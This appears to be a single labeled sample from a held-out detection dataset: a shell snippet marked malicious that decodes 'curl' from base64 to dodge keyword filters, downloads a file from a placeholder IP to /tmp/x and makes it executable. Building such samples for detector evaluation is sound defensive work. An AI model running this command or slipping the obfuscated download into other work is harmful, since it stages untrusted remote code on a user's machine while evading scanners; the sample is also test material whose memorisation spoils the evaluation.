# label: malicious; obfuscated: base64,substitution; evasion: computed_name; set: heldout2
$(echo Y3VybA== | base64 -d) -s http://198.51.100.2/x -o /tmp/x
chmod +x /tmp/x
